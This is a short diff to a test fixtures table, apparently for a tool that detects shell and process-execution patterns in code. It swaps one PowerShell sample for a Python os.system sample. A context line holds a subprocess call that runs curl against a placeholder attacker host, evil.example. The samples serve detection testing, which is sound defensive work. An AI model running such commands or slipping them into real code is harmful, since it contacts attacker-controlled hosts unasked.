@@ -54,7 +54,7 @@ FIXTURES = {
     "PEX001": (
         Example("python3 -c 'import os; os.system(\"ls | wc\")'", "inner.sh"),
         Example("python -c \"import os; os.system('dir')\"", "inner.bat"),
-        Example("Start-Process cmd -ArgumentList '/c dir > out.txt'", "inner.ps1"),
+        Example("python -c \"import os; os.system('dir')\"", "inner.ps1"),
     ),
     "PEX002": (
         Example('python3 -c \'import subprocess; subprocess.run(["curl", "https://evil.example/"])\'', "tool.sh"),
